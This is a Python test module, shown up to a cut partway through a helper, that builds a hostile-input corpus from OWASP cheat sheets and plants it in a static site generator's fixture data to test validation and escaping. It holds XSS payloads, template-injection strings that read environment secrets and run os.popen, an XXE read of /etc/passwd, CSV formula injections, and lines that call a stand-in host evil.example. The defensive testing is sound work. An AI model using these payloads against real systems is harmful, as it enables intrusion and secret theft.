"""A hostile-input corpus and the site built from it (issue 14).

The corpus is written from the OWASP XSS Filter Evasion, Injection and CSV Injection
cheat sheets: each payload is ``(name, text, kind)``. ``MARK`` in a text is replaced by a
marker unique to one placement (``hq123z``), so whatever turns up in the built site names
the file, the field and the payload it came from: ``alert(/hq123z/)`` shows that marker
in the dialog.

``build_hostile_site`` copies the small fixture city and walks the schema (not a list of
fields) to put a payload into every text and web-address field of every record kind,
site.yml, the taxonomies, the thesaurus and the holidays, and into every part's ``en:``
block (the English edition's texts, which refuse Chinese: there the corpus has its
Chinese written in Latin letters), each text as its Chinese is. What validation refuses is
taken out again, file by file and field by field, and recorded with the message that
refused it: a refusal is right as long as it is a clean data error, and the site is
built from what is left, since the point is that text validation allows is published
safely.
"""

from __future__ import annotations

import dataclasses as dc
import os
import re
import shutil
import traceback
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, NamedTuple

import yaml

from generator.issues import DataError, Issue
from generator.schema import (
    COLLECTIONS, TAXONOMIES, English, Extra, Format, Holiday, SiteConfig, field_specs,
    translations, unwrap,
)
from generator.schema import THESAURUS_FILE, Thesaurus
from generator.validate import HAN_RUN_RE

MARK = "MARK"
MARKER_RE = re.compile(r"hq(\d+)z")
# Set in the environment while the hostile site builds: it must be nowhere in the site.
SECRET_ENV = "SHOWCASE_HOSTILE_SECRET"
SECRET = "sekr3t-e9d41c7a"
# The products of the template payloads' arithmetic: none may be in the site.
EVALUATED = ("8641969", "7006652")


class Payload(NamedTuple):
    """One hostile text; *kind* says what it attacks (and so where it may go)."""

    name: str
    text: str
    kind: str


P = Payload
PAYLOADS: tuple[Payload, ...] = (
    # --- tags, closed and unclosed ----------------------------------------------------
    P("script", "<script>alert(/MARK/)</script>", "tag"),
    P("img-onerror", "<img src=x onerror=alert(/MARK/)>", "tag"),
    P("img-unclosed", "展示点 <img src=x onerror=alert(/MARK/) ", "tag"),
    P("img-unclosed-end", "<img src=x onerror=alert(/MARK/)", "tag"),
    P("img-slash-separated", "<img/src=x/onerror=alert(/MARK/)>", "tag"),
    P("svg-slash-onload", "社区<svg/onload=alert(/MARK/)>", "tag"),
    P("svg-unclosed", "<svg onload=alert(/MARK/)//", "tag"),
    P("body-onload", "<body onload=alert(/MARK/)>", "tag"),
    P("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(/MARK/)&lt;/script&gt;\">", "tag"),
    P("details-ontoggle", "<details open ontoggle=alert(/MARK/)>", "tag"),
    P("tag-newline", "<img\nsrc=x\nonerror=alert(/MARK/)>", "tag"),
    P("tag-tab", "<img\tsrc=x\tonerror=alert(/MARK/)>", "tag"),
    P("tag-upper", "<IMG SRC=x ONERROR=alert(/MARK/)>", "tag"),
    P("tag-space-after-lt", "< img src=x onerror=alert(/MARK/)>", "tag"),
    P("half-tag-comment", "<!--MARK--><img src=x onerror=alert(/MARK/)>", "tag"),
    P("nested-script", "<scr<script>ipt>alert(/MARK/)</scr</script>ipt>", "tag"),
    P("math-href", "<math><maction xlink:href=javascript:alert(/MARK/)>x", "tag"),
    P("style-tag", "<style>*{background:url(//evil.example/MARK)}</style>", "tag"),
    P("base-href", "<base href=//evil.example/MARK/>", "tag"),
    P("meta-refresh", "<meta http-equiv=refresh content=0;url=//evil.example/MARK>", "tag"),
    P("lt-percent", "<% alert(/MARK/) %> <%= 1234567*7 %>", "template"),
    # --- attribute breakout -------------------------------------------------------------
    P("dq-svg", "\"><svg onload=alert(/MARK/)>", "attribute"),
    P("dq-svg-unclosed", "\"><svg onload=alert(/MARK/) x=\"", "attribute"),
    P("dq-onmouseover", "示例\" onmouseover=\"alert(/MARK/)\" x=\"", "attribute"),
    P("sq-onmouseover", "' onmouseover='alert(/MARK/)' x='", "attribute"),
    P("sq-autofocus", "'autofocus onfocus='alert(/MARK/)", "attribute"),
    P("backtick", "`onmouseover=alert(/MARK/)`", "attribute"),
    P("unquoted", "x onmouseover=alert(/MARK/) y", "attribute"),
    P("dq-style", "\" style=\"background:url(//evil.example/MARK)\" x=\"", "attribute"),
    # --- entity-encoded tags ------------------------------------------------------------
    P("entity-named", "&lt;img src=x onerror=alert(/MARK/)&gt;", "entity"),
    P("entity-decimal", "&#60;img src=x onerror=alert(/MARK/)&#62;", "entity"),
    P("entity-hex", "&#x3c;svg onload=alert(/MARK/)&#x3e;", "entity"),
    P("entity-nosemi", "&#60img src=x onerror=alert(/MARK/)&#62", "entity"),
    P("entity-double", "&amp;lt;img src=x onerror=alert(/MARK/)&amp;gt;", "entity"),
    P("entity-quote", "&quot;&gt;&lt;svg onload=alert(/MARK/)&gt;", "entity"),
    P("entity-in-markdown-code", "`&lt;img src=x onerror=alert(/MARK/)&gt;`", "entity"),
    # --- breaking out of other elements -------------------------------------------------
    P("title-breakout", "</title><img src=x onerror=alert(/MARK/)>", "breakout"),
    P("title-breakout-unclosed", "</title><svg onload=alert(/MARK/)", "breakout"),
    P("script-breakout", "</script><script>alert(/MARK/)</script>", "breakout"),
    P("script-breakout-unclosed", "</script><svg onload=alert(/MARK/)", "breakout"),
    P("script-comment", "<!--<script>MARK", "breakout"),
    P("textarea-breakout", "</textarea><img src=x onerror=alert(/MARK/)", "breakout"),
    P("style-breakout", "</style><img src=x onerror=alert(/MARK/)", "breakout"),
    P("noscript-breakout", "</noscript><img src=x onerror=alert(/MARK/)", "breakout"),
    P("cdata", "]]><script>alert(/MARK/)</script><![CDATA[", "breakout"),
    P("comment-close", "--><img src=x onerror=alert(/MARK/)>", "breakout"),
    # --- links: schemes and tricks --------------------------------------------------------
    P("js-url", "javascript:alert(/MARK/)", "url"),
    P("js-url-case", "JaVaScRiPt:alert(/MARK/)", "url"),
    P("js-url-space", " javascript:alert(/MARK/)", "url"),
    P("js-url-tab-inside", "java\tscript:alert(/MARK/)", "url"),
    P("js-url-entity-colon", "javascript&colon;alert(/MARK/)", "url"),
    P("js-url-entity-j", "&#106;avascript:alert(/MARK/)", "url"),
    P("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK", "url"),
    P("vbscript-url", "vbscript:msgbox(\"MARK\")", "url"),
    P("https-dq-breakout", "https://example.org/MARK\"><svg/onload=alert(/MARK/)>", "url"),
    P("https-sq-breakout", "https://example.org/MARK'onmouseover='alert(/MARK/)'x='", "url"),
    P("https-script-breakout", "https://example.org/MARK?</script><svg/onload=alert(/MARK/)>",
      "url"),
    P("https-template", "https://example.org/MARK?q={{1234567*7}}&r={0.__class__}", "url"),
    P("https-crlf-encoded", "https://example.org/MARK%0D%0ABEGIN:VEVENT", "url"),
    P("https-userinfo", "https://example.org@evil.example/MARK", "url"),
    P("https-js-path", "https://example.org/MARK/javascript:alert(1)", "url"),
    P("https-formula", "https://example.org/MARK?=cmd|'/C calc'!A0", "url"),
    # --- Markdown: links, images, autolinks ---------------------------------------------
    P("md-js-link", "[点击 MARK](javascript:alert(/MARK/))", "markdown"),
    P("md-js-link-case", "[点击 MARK](JAVASCRIPT:alert(/MARK/))", "markdown"),
    P("md-js-link-angle", "[点击 MARK](<javascript:alert(/MARK/)>)", "markdown"),
    P("md-js-link-entity", "[点击 MARK](javascript&#58;alert(/MARK/))", "markdown"),
    P("md-js-link-space", "[点击 MARK]( javascript:alert(/MARK/))", "markdown"),
    P("md-js-ref", "[点击 MARK][x]\n\n[x]: javascript:alert(/MARK/)", "markdown"),
    P("md-data-image", "![MARK](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
      "markdown"),
    P("md-image-title-breakout", "![MARK](https://example.org/x.png \"\\\" onerror=\"alert(/MARK/)\")",
      "markdown"),
    P("md-link-title-breakout", "[MARK](https://example.org/ '\\' onmouseover=alert(/MARK/) x=')",
      "markdown"),
    P("md-autolink-js", "<javascript:alert(/MARK/)>", "markdown"),
    P("md-html-block", "<div onmouseover=\"alert(/MARK/)\">\n\n社区\n\n</div>", "markdown"),
    P("md-heading-attr", "# 标题 MARK {: onclick=alert(/MARK/) }", "markdown"),
    P("md-external-image", "![MARK](https://evil.example/MARK.png)", "markdown"),
    # --- templates: Jinja, branca, str.format, others -----------------------------------
    P("jinja-arith", "{{ 7*7 }} {{ 1234567*7 }} MARK", "template"),
    P("jinja-stmt", "{% for i in range(2) %}MARK{% endfor %}", "template"),
    P("jinja-globals", "{{ cycler.__init__.__globals__.os.environ }} MARK", "template"),
    P("jinja-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }} MARK", "template"),
    P("jinja-config", "{{ config }} {{ self }} MARK", "template"),
    P("jinja-env-key", "{{ cycler.__init__.__globals__.os.environ."
      + SECRET_ENV + " }} MARK", "template"),
    P("jinja-comment", "{# MARK #}示例", "template"),
    P("jinja-raw-end", "{% endraw %}{{ 1234567*7 }} MARK", "template"),
    P("jinja-unclosed", "{{ MARK", "template"),
    P("branca-this", "{{ this.get_name() }} {{ this._parent }} MARK", "template"),
    P("format-class", "{0.__class__} {0.__class__.__mro__} MARK", "template"),
    P("format-import", "{__import__} {self} {name} MARK", "template"),
    P("format-percent", "%s %(name)s %x %n MARK", "template"),
    P("dollar-template", "${1234567*7} #{1234567*7} ${" + SECRET_ENV + "} MARK", "template"),
    P("js-template-literal", "`${alert(/MARK/)}`", "template"),
    # --- spreadsheet formulas -----------------------------------------------------------
    P("csv-equals", "=HYPERLINK(\"https://evil.example/MARK\",\"点击\")", "csv"),
    P("csv-plus", "+cmd|'/C calc'!A0 MARK", "csv"),
    P("csv-minus", "-2+3+cmd|'/C calc'!A0 MARK", "csv"),
    P("csv-at", "@SUM(1+1)*cmd|'/C calc'!A0 MARK", "csv"),
    P("csv-tab", "\t=1+1 MARK", "csv"),
    P("csv-cr", "\r=1+1 MARK", "csv"),
    P("csv-quote-breakout", "\",\"=1+1\",\"MARK", "csv"),
    P("csv-fullwidth-equals", "\uff1d1+1 MARK", "csv"),
    # --- control characters and line ends -----------------------------------------------
    P("ctrl-vt", "示例\x0b文字 MARK", "control"),
    P("ctrl-nul", "示例\x00文字 MARK", "control"),
    P("ctrl-bell-esc", "示例\x07\x1b[31m文字 MARK", "control"),
    P("ctrl-form-feed", "示例\x0c文字 MARK", "control"),
    P("ctrl-del-c1", "示例\x7f\x85\x9b文字 MARK", "control"),
    P("lone-cr", "示例\r文字 MARK", "control"),
    P("lone-lf", "示例\n文字 MARK", "control"),
    P("noncharacter", "示例\ufffe\uffff文字 MARK", "control"),
    # --- Unicode that changes lines or direction ----------------------------------------
    P("line-separator", "示例\u2028文字\u2029MARK", "unicode"),
    P("bidi-override", "示例\u202egpj.exe\u202c MARK", "unicode"),
    P("bidi-isolate", "\u2066\u2067\u2068示例\u2069 MARK", "unicode"),
    P("zero-width", "示\u200b例\ufeff\u200d MARK", "unicode"),
    P("astral", "示例 \U0001f600\U00020000 MARK", "unicode"),
    P("fullwidth-lt", "\uff1cscript\uff1ealert(/MARK/)\uff1c/script\uff1e", "unicode"),
    # --- JSON and JavaScript strings ----------------------------------------------------
    P("json-quote", "\"}, \"x\": \"MARK", "json"),
    P("json-backslash", "\\\"});alert(/MARK/);//", "json"),
    P("json-script-end", "</script><script>alert(/MARK/)</script>", "json"),
    P("json-html-comment", "<!-- MARK", "json"),
    P("json-line-separator", "\u2028alert(/MARK/)\u2029", "json"),
    P("js-string-breakout", "';alert(/MARK/);//", "json"),
    P("js-string-breakout-dq", "\";alert(/MARK/);//", "json"),
    # --- iCalendar ----------------------------------------------------------------------
    P("ical-crlf", "示例\r\nBEGIN:VEVENT\r\nSUMMARY:MARK\r\nEND:VEVENT", "ical"),
    P("ical-lf", "示例\nEND:VEVENT\nBEGIN:VEVENT\nUID:MARK", "ical"),
    P("ical-specials", "示例;LANGUAGE=en:x,y\\z MARK", "ical"),
    P("ical-long", "示例" * 60 + " MARK", "ical"),
    # --- XML and SVG in text ------------------------------------------------------------
    P("svg-inline", "<svg><script>alert(/MARK/)</script></svg>", "svg"),
    P("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(/MARK/)>", "svg"),
    P("xml-entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e; MARK", "svg"),
    P("xml-amp-lt", "a & b < c > d ]]> MARK", "svg"),
    P("svg-use-href", "<svg><use href=\"data:image/svg+xml,&lt;svg id='x'&gt;\"/></svg> MARK",
      "svg"),
    # --- addresses for the e-mail fields ------------------------------------------------
    P("email-minus", "-2+3+MARK@example.org", "email"),
    P("email-plus", "+1-MARK@example.org", "email"),
    P("email-percent", "%0d%0aMARK@example.org", "email"),
)
del P

# Which payloads may go into a field of each format. Web-address fields take the "url"
# payloads (text in them is refused, rightly); e-mail fields the "email" ones; text
# fields take everything, including the addresses (a javascript: text must be refused).
URL_FORMATS = {"url", "https", "licence"}
TEXT_FORMATS = {"line", "markdown", "synonym"}  # synonym: a taxonomy term's search words
# A phone number is digits and a hyphen after validation: no payload can stay in one.
NO_PAYLOAD_FORMATS = {"phone"}
PAYLOAD_FORMATS = URL_FORMATS | TEXT_FORMATS | {"email", "report"}
NOT_TEXT_FORMATS = {"slug", "time", "media", "env", "datafile",  # names and paths checked exactly
                    "icp", "police", "site_code", "postcode"}  # the footer's numbers, too


# The programme's words (programme.short_title, award, delisting; levels) stand in titles,
# buttons and table headings, and validation holds them to 12 characters without braces:
# short payloads of their own, which fit with the marker.
WORD_FIELDS = {"programme.short_title", "programme.award", "programme.delisting",
               "levels.district", "levels.street"}
WORD_PAYLOADS = [
    Payload("word-quotes", "\"'&MARK", "attribute"),
    Payload("word-entity", "&amp;MARK", "entity"),
    Payload("word-lt-gt", "1<2>MARK", "tag"),
    Payload("word-printf", "%(x)sMARK", "template"),
    Payload("word-formula", "=1+MARK", "csv"),
]
# A city's own fields (extra_fields), declared in site.yml and written under extra:
EXTRA_FIELDS = [{"id": "motto", "label": "口号", "type": "text", "description": "中心的口号。"},
                {"id": "services", "label": "服务项目", "type": "list",
                 "description": "中心提供的服务。"},
                {"id": "guide", "label": "服务指南", "type": "url", "description": "指南的网址。"}]
EXTRA_FORMATS = {"text": "line", "list": "line", "url": "url"}

# The English of every record kind (its en: block) refuses Chinese characters: its slots
# take the corpus with each run of them written in Latin letters (the attack is the
# same), and their programme words are held to 30 characters (WORD_MAX_EN), so they get
# the short payloads and a few that fit in 30 with the marker.
EN_WORD_FIELDS = {"programme.en.short_title", "programme.en.award", "programme.en.delisting",
                  "levels.en.district", "levels.en.street"}
EN_WORD_PAYLOADS = WORD_PAYLOADS + [
    Payload("word-en-svg", "<svg onload=alert(/MARK/)>", "tag"),
    Payload("word-en-title", "</title><b>MARK", "breakout"),
    Payload("word-en-script", "</script><i>MARK", "breakout"),
    Payload("word-en-dq", "\"><i>MARK", "attribute"),
]

# Texts validation accepts that no output shows (so no output can mis-show them), by
# (kind, field path): the corpus fills them all the same, and the test that looks for
# each template payload as written leaves these out; a test fails once one is shown.
UNPUBLISHED: dict[tuple[str, str], str] = {
    **{(f"taxonomies/{name}", path): "a term's description is shown for the service fields "
       "and their groups only (the fields pages)"
       for name in TAXONOMIES if name not in ("fields", "field_groups")
       for path in ("description", "en.description")},
    ("site", "extra_fields[].en.description"): "a city field's description is shown in the "
    "editors' field reference and JSON Schemas, which are Chinese only",
}


def _latin(run: re.Match) -> str:
    """A run of Chinese characters as English words of about its length."""
    return " ".join(["Example"] * max(1, len(run[0]) // 2))


def english(payload: Payload) -> Payload:
    """*payload* as an English field can hold it: its Chinese written in Latin letters."""
    return payload._replace(text=HAN_RUN_RE.sub(_latin, payload.text))


def pool(fmt: str, in_english: bool = False) -> list[Payload]:
    """The payloads a field of format *fmt* is given, in the order they are tried; for a
    field of an en: block, without Chinese characters."""
    if in_english:
        return EN_WORD_PAYLOADS if fmt == "word" else [english(p) for p in pool(fmt)]
    if fmt == "word":
        return WORD_PAYLOADS
    if fmt in URL_FORMATS:
        return [p for p in PAYLOADS if p.kind == "url"]
    if fmt == "email":
        return [p for p in PAYLOADS if p.kind == "email"]
    if fmt == "report":
        return [p for p in PAYLOADS if p.kind in ("url", "email")]
    if fmt == "synonym":  # one short word: no list separator, within 40 characters
        return [p for p in PAYLOADS if not re.search(r"[、，,；;\n]", p.text) and len(p.text) <= 30]
    return list(PAYLOADS)


FALLBACK = {"url": "https://example.org/MARK", "https": "https://example.org/MARK",
            "licence": "https://example.org/MARK", "report": "https://example.org/MARK",
            "email": "MARK@example.org"}  # and for text: "示例文字 MARK"
FALLBACK_TEXT = "示例文字 MARK"
FALLBACK_EN = "Example text MARK"  # an English field's: no Chinese


def text_format(tp: Any) -> str | None:
    """The format of a text field of the schema, or None for anything else (ids, terms,
    references, choices, numbers, dates)."""
    base, markers, _ = unwrap(tp)
    if base is not str:
        return None
    if any(not isinstance(m, Format) for m in markers):  # Term, RecordRef, Choice
        return None
    fmt = next((m.name for m in markers if isinstance(m, Format)), "line")
    return None if fmt in NOT_TEXT_FORMATS else fmt


def text_fields(cls: type, prefix: str = "") -> list[tuple[str, str]]:
    """Every text field under a schema class, as (generic path, format): ``visit.booking.url``,
    ``contacts[].name``."""
    out = []
    for spec in field_specs(cls):
        base, _, _ = unwrap(spec.type)
        path = f"{prefix}.{spec.name}" if prefix else spec.name
        if getattr(base, "__origin__", None) is tuple:
            item = base.__args__[0]
            item_base, _, _ = unwrap(item)
            if dc.is_dataclass(item_base):
                out += text_fields(item_base, path + "[]")
            elif text_format(item):
                out.append((path + "[]", text_format(item)))
        elif dc.is_dataclass(base):
            out += text_fields(base, path)
        elif text_format(spec.type):
            out.append((path, text_format(spec.type)))
    return out


def schema_text_fields() -> dict[str, list[tuple[str, str]]]:
    """Every text field of every kind of data file: site, taxonomies, holidays, records."""
    kinds = {"site": SiteConfig, "holidays": Holiday}
    kinds |= {f"taxonomies/{name}": cls for name, cls in TAXONOMIES.items()}
    kinds |= dict(COLLECTIONS)
    fields = {kind: text_fields(cls) for kind, cls in kinds.items()}
    fields[THESAURUS_KIND] = [("[]", text_format(THESAURUS_WORD))]  # a list of lists of words
    return fields


# The city's thesaurus: groups of words, no fields (a word's path is [group][word])
THESAURUS_KIND = "taxonomies/synonyms"
THESAURUS_WORD = unwrap(Thesaurus.__args__[0])[0].__args__[0]


def generic(path: tuple) -> str:
    """``('contacts', 0, 'name')`` → ``contacts[].name``."""
    out = ""
    for part in path:
        out += "[]" if isinstance(part, int) else (f".{part}" if out else part)
    return out


def dotted(path: tuple) -> str:
    """``('contacts', 0, 'name')`` → ``contacts[0].name``, as the validator writes it."""
    out = ""
    for part in path:
        out += f"[{part}]" if isinstance(part, int) else (f".{part}" if out else part)
    return out


# ---------------------------------------------------------------------------
# Placements: one payload in one field of one file
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Placement:
    """A payload put into a field; its marker is in the text."""

    marker: str
    kind: str  # "points", "site", "taxonomies/districts", ...
    file: str  # data/points/x.yml
    path: tuple  # ("visit", "booking", "url")
    fmt: str
    payload: Payload
    text: str  # the payload with its marker, as written to the file

    def __str__(self) -> str:
        return f"{self.file} {dotted(self.path)} [{self.payload.name}] ({self.marker})"

    @property
    def generic(self) -> str:
        """The field's path in its schema class: a list file's item index left out."""
        return generic(self.path[1:] if self.path and isinstance(self.path[0], int)
                       else self.path)


@dataclass(frozen=True)
class Refusal:
    """A placement the validator (or the build) refused, with its message."""

    placement: Placement
    issue: str
    by_build: bool = False  # refused by `build` but accepted by `check`
    snapshot: str = ""  # the data folder that holds it, relative to the project


class Slot:
    """A field that receives payloads, one at a time, until one is accepted."""

    def __init__(self, site: "HostileSite", kind: str, file: str, path: tuple, fmt: str,
                 start: int, in_english: bool = False):
        self.site, self.kind, self.file, self.path, self.fmt = site, kind, file, path, fmt
        self.in_english = in_english
        # what an English field refuses says nothing of the same payload in Chinese
        self.family = f"en:{fmt}" if in_english else fmt
        self.candidates = pool(fmt, in_english)
        self.start, self.tried = start, 0
        self.current: Placement | None = None
        self.next()

    def next(self) -> None:
        """Put the next payload in; after a few refusals, ordinary text with a marker."""
        banned = self.site.banned.get(self.family, set())
        while self.tried < len(self.candidates) and self.tried < 6:
            payload = self.candidates[(self.start + self.tried * 7) % len(self.candidates)]
            self.tried += 1
            if payload.name not in banned:
                self.current = self.site.place(self, payload)
                return
        self.tried = 99
        text = FALLBACK.get(self.fmt, FALLBACK_EN if self.in_english else FALLBACK_TEXT)
        self.current = self.site.place(self, Payload("ordinary", text, "ordinary"))

    @property
    def value(self) -> str:
        return self.current.text


class Link(NamedTuple):
    """A field whose value must equal another's (a street named in its district)."""

    slot: Slot


class Quoted(str):
    """A payload: written double-quoted, with YAML's escapes for what is not printable."""


class _Dumper(yaml.SafeDumper):
    pass


_Dumper.add_representer(Quoted, lambda dumper, value: dumper.represent_scalar(
    "tag:yaml.org,2002:str", str(value), style='"'))


# ---------------------------------------------------------------------------
# Full records: every optional part present, so that every text field exists
# ---------------------------------------------------------------------------

MEDIA = "beishan-centre/hall.png"
PHOTO = {"file": MEDIA}


def _point(id_: str, lat: float, **extra: Any) -> dict:
    return {
        "id": id_, "organisation": {"type": "association", "grade": "4A"},
        "field": "community", "award": {"year": 2023, "batch": 1}, "status": "awarded",
        "location": {"district": "west-lake",
                     "coordinates": {"system": "wgs84", "lat": lat, "lng": 120.14}},
        "venue": {"area_m2": 120, "exhibits": [None, None]},
        "highlights": [None, None], "platforms": ["incubation"],
        "visit": {
            "hours": [{"days": ["mon", "tue", "wed", "thu", "fri", "sat", "sun"],
                       "open": "09:00", "close": "17:00"}],
            "closed_dates": ["2024-12-25"], "public_holidays": "closed",
            "booking": {"phone": "0571-87001234", "lead_days": 1},
            "group_size": {"min": 1, "max": 20}, "languages": ["zh"]},
        "contacts": [{"phone": "0571-87001234"}, {}],
        "photos": [dict(PHOTO)], "projects": ["beishan-elderly-meals"],
        "cases": ["beishan-salon"], "last_verified": "2024-10-01", **extra}


def _project(id_: str) -> dict:
    return {"id": id_, "field": "life", "series": "care", "target_groups": ["elderly"],
            "location": {"district": "west-lake"}, "year": 2023, "outcomes": [None, None],
            "points": ["beishan-centre"], "photos": [dict(PHOTO)]}


def _case(id_: str) -> dict:
    return {"id": id_, "year": 2023, "field": "community", "organisations": [None, None],
            "points": ["beishan-centre"], "projects": ["beishan-elderly-meals"], "source": {}}


def _year(year: int) -> dict:
    return {"year": year, "programme": [
        {"step": "award", "date": f"{year}-06-01"},
        {"step": "training", "date": f"{year}-11-01", "end": f"{year}-12-31"}],
        "events": [
        {"kind": "training", "date": f"{year}-09-15", "point": "beishan-centre",
         "photos": [dict(PHOTO)]},
        {"kind": "award", "date": f"{year}-11-20", "end": f"{year}-12-10"},
        {"kind": "training", "date": f"{year}-12-05", "point": "beishan-centre"}]}


NEW_POINTS = [_point(f"hostile-{i}", 30.21 + 0.01 * i) for i in range(1, 6)]
NEW_PROJECTS = [_project(f"hostile-project-{i}") for i in range(1, 4)]
NEW_CASES = [_case(f"hostile-case-{i}") for i in range(1, 4)]
NEW_YEARS = [_year(2024), _year(2025)]
LEFT_OUT = object()  # a field that fill() leaves out of a record
SITE_EXTRA = {"map": {"tiles": {"provider": "osm"}}, "data_licence": {},
              "targets": [{"year": 2025, "points": 10}], "report_errors": None,
              "levels": {"district": "县", "street": "乡镇"}, "extra_fields": EXTRA_FIELDS,
              "footer": {"contact": {}}}
PROGRAMME_EXTRA = {"award": "挂牌", "delisting": "撤牌"}
HOLIDAYS = [{"start": "2024-10-01", "end": "2024-10-07"}, {"start": "2025-01-01",
                                                           "end": "2025-01-01"}]
STREETS_PER_DISTRICT = 2


# ---------------------------------------------------------------------------
# The hostile site
# ---------------------------------------------------------------------------


@dataclass
class HostileSite:
    """The hostile copy of the fixture city, what went in, what was refused, the site."""

    project: Path
    placements: dict[str, Placement] = field(default_factory=dict)  # every one, by marker
    refusals: list[Refusal] = field(default_factory=list)
    unattributed: list[str] = field(default_factory=list)  # issues of no placement
    snapshots: list[str] = field(default_factory=list)  # data folders refused by `check`
    banned: dict[str, set[str]] = field(default_factory=dict)  # family → payload names
    site: Path | None = None
    build_error: str | None = None  # a traceback, if the build crashed
    slots: list[Slot] = field(default_factory=list)
    linked: list[tuple[str, str, Link]] = field(default_factory=list)  # kind, path, link
    documents: dict[str, Any] = field(default_factory=dict)  # file → data with slots
    _counters: dict[str, int] = field(default_factory=dict)

    # -- placing ---------------------------------------------------------------------

    def place(self, slot: Slot, payload: Payload) -> Placement:
        marker = f"hq{len(self.placements) + 1}z"
        placement = Placement(marker, slot.kind, slot.file, slot.path, slot.fmt, payload,
                              payload.text.replace(MARK, marker))
        self.placements[marker] = placement
        return placement

    def slot(self, kind: str, file: str, path: tuple, fmt: str,
             in_english: bool = False) -> Slot:
        family = f"en:{fmt}" if in_english else fmt
        start = self._counters.get(family, 0)
        self._counters[family] = start + 1
        slot = Slot(self, kind, file, path, fmt, start, in_english)
        self.slots.append(slot)
        return slot

    def fill(self, cls: type, data: dict, kind: str, file: str, path: tuple = (),
             links: dict | None = None, in_english: bool = False) -> dict:
        """*data* with a slot in every text field of *cls* (schema-driven); the parts that
        are not text (ids, terms, dates) and which optional parts exist come from *data*
        (a field it sets to LEFT_OUT stays out, as an event at a point has no venue).
        Every part has its en: block, filled after the rest: it translates what is there."""
        out = dict(data)
        blocks = []
        for spec in field_specs(cls):
            if data.get(spec.name) is LEFT_OUT:
                del out[spec.name]
                continue
            base, markers, _ = unwrap(spec.type)
            here = path + (spec.name,)
            if dc.is_dataclass(base) and issubclass(base, English):
                blocks.append((spec.name, base, here))
                continue
            extra = next((m for m in markers if isinstance(m, Extra)), None)
            if extra is not None:  # the city's own fields of this collection, each a slot
                declared = [f for f in EXTRA_FIELDS if f.get("collection", "points") == extra.collection]
                out[spec.name] = {
                    f["id"]: [self.slot(kind, file, here + (f["id"], i), "line") for i in range(2)]
                    if f["type"] == "list" else
                    self.slot(kind, file, here + (f["id"],), EXTRA_FORMATS[f["type"]])
                    for f in declared} or None
            elif links and (cls.__name__, spec.name) in links:
                out[spec.name] = link = links[cls.__name__, spec.name](data)
                self.linked.append((kind, generic(here), link))
            elif getattr(base, "__origin__", None) is tuple:
                item = base.__args__[0]
                item_base, _, _ = unwrap(item)
                items = data.get(spec.name) or []
                if dc.is_dataclass(item_base):
                    out[spec.name] = [self.fill(item_base, x, kind, file, here + (i,), links)
                                      for i, x in enumerate(items)]
                elif text_format(item) in PAYLOAD_FORMATS:
                    # an English list is item for item with its Chinese one
                    count = len(items) if in_english else max(len(items), 2)
                    out[spec.name] = [self.slot(kind, file, here + (i,), text_format(item),
                                                in_english) for i in range(count)]
            elif dc.is_dataclass(base):
                if isinstance(data.get(spec.name), dict):
                    out[spec.name] = self.fill(base, data[spec.name], kind, file, here, links,
                                               in_english)
            elif kind == "site" and generic(here) in (EN_WORD_FIELDS if in_english
                                                      else WORD_FIELDS):
                out[spec.name] = self.slot(kind, file, here, "word", in_english)
            elif text_format(spec.type) in PAYLOAD_FORMATS:
                out[spec.name] = self.slot(kind, file, here, text_format(spec.type),
                                           in_english)
        for name, block, here in blocks:
            out[name] = self.fill(block, _translating(block, out, data.get(name)), kind, file,
                                  here, links, in_english=True)
        return out

    # -- writing ---------------------------------------------------------------------

    def resolve(self, value: Any) -> Any:
        if isinstance(value, Slot):
            return Quoted(value.value)
        if isinstance(value, Link):
            return Quoted(value.slot.value)
        if isinstance(value, dict):
            return {k: self.resolve(v) for k, v in value.items() if v is not None}
        if isinstance(value, list):
            return [self.resolve(v) for v in value]
        return value

    def write(self, data_dir: Path | None = None) -> None:
        data_dir = data_dir or self.project / "data"
        for file, data in self.documents.items():
            path = data_dir.parent / file
            path.write_text(yaml.dump(self.resolve(data), Dumper=_Dumper, allow_unicode=True,
                                      sort_keys=False, width=10_000), encoding="utf-8")

    def positions(self) -> dict[tuple[str, int], Slot]:
        """Each slot by (file, line) of its value, as written now."""
        out, roots = {}, {}
        for slot in self.slots:
            if slot.file not in roots:
                text = (self.project / slot.file).read_text(encoding="utf-8")
                roots[slot.file] = yaml.compose(text, Loader=yaml.SafeLoader)
            node = _node(roots[slot.file], slot.path)
            if node is not None:
                out[slot.file, node.start_mark.line + 1] = slot
        return out

    # -- refusing --------------------------------------------------------------------

    def refuse(self, issues: list[Issue], *, by_build: bool, snapshot: str) -> int:
        """Take out every payload an issue names; returns how many were taken out."""
        by_path = {(s.file, dotted(s.path)): s for s in self.slots}
        by_line = self.positions()
        refused: dict[int, Slot] = {}
        for issue in issues:
            slot = by_path.get((issue.file, issue.path)) or by_line.get((issue.file, issue.line))
            if slot is None:
                self.unattributed.append(str(issue))
                continue
            if id(slot) not in refused:
                self.refusals.append(Refusal(slot.current, str(issue), by_build, snapshot))
                if slot.current.payload.kind != "ordinary":
                    self.banned.setdefault(slot.family, set()).add(slot.current.payload.name)
                refused[id(slot)] = slot
        for slot in refused.values():
            slot.next()
        return len(refused)

    def accepted(self) -> list[Placement]:
        """The placements in the built site."""
        return [slot.current for slot in self.slots]

    def carried(self) -> set[tuple[str, str]]:
        """(kind, field path) of every field that holds a payload in the built site; a
        linked field (a point's street) holds its district street's."""
        out = {(p.kind, p.generic) for p in self.accepted() if p.payload.kind != "ordinary"}
        out |= {(kind, path) for kind, path, link in self.linked
                if link.slot.current.payload.kind != "ordinary"}
        return out

    def placement_of(self, text: str) -> list[Placement]:
        """The placements whose markers are in *text*."""
        return [self.placements[f"hq{n}z"] for n in dict.fromkeys(MARKER_RE.findall(text))
                if f"hq{n}z" in self.placements]

    def describe(self, text: str) -> str:
        return "; ".join(map(str, self.placement_of(text))) or "(no marker)"


def _translating(block: type, filled: dict, given: dict | None) -> dict:
    """The data of an en: block beside *filled*: each English text its Chinese has (a
    list as many items), none where the Chinese is not there (it would be refused)."""
    out = dict(given or {})
